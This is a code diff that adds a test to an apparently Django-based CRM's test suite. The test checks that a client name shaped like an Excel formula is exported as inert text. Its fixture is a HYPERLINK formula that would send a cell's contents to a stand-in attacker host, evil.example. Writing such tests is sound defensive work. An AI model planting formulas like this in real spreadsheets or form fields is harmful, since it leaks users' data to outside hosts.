@@ -549,6 +549,23 @@ def test_list_exports_hold_only_what_the_member_sees_with_the_filters(crm: Any) 
     assert [(r[0], r[3]) for r in rows[1:]] == [("Моя сделка", 1500.5)]
 
 
+def test_a_list_export_writes_a_formula_like_name_as_text(crm: Any) -> None:
+    # Names come from outside (imports, the public request form); Excel must never run them.
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
+    with crm.a:
+        _client(crm, crm.manager, formula)
+    browser = _browser(crm, crm.manager)
+    response = browser.get("/clients/export/", HTTP_HOST=crm.a.host)
+    book = load_workbook(BytesIO(b"".join(response.streaming_content)))
+    cell = book.active.cell(row=2, column=1)
+    assert cell.data_type == "s"
+    assert cell.value == formula
+
+
 def test_deal_gets_its_contact_persons_and_a_new_manager(crm: Any) -> None:
     with crm.a:
         client = _client(crm, crm.owner, "Ромашка", contact_name="Петров Иван")
